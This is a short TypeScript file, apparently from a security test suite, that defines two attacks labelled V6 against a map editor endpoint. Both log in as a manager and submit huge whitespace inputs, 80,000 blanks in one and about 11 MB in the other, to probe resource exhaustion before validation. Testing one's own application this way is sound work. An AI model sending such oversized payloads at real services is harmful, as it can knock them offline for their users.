import { type Attack, multipart, named, send } from "../attack";

const blanks = (n: number) => `${" ".repeat(n)}x`;
const ACTS = ["undo", "new", "delete", "show"];

/** The actions of the map editor process text before it is validated. */
export const mapEditor: Attack[] = [
  {
    code: "V6",
    name: "80,000 blanks in the editor of areas",
    run: async (target) => {
      const who = await target.as("manager");
      const body = (act: string) =>
        new URLSearchParams({ location_method: "draw", areas: blanks(80_000), act, [act]: "1" }).toString();
      return Promise.all(ACTS.map((act) => send(target, "/jobs/1/map/edit", { who, body: body(act) })));
    },
  },
  {
    code: "V6",
    name: "11 MB of blanks in the same",
    run: async (target) => {
      const who = await target.as("manager");
      const sent = multipart([
        { head: named("areas"), body: `${"\n ".repeat(5_500_000)}x` },
        { head: named("act"), body: "undo" },
      ]);
      return [await send(target, "/jobs/1/map/edit", { who, ...sent })];
    },
  },
];
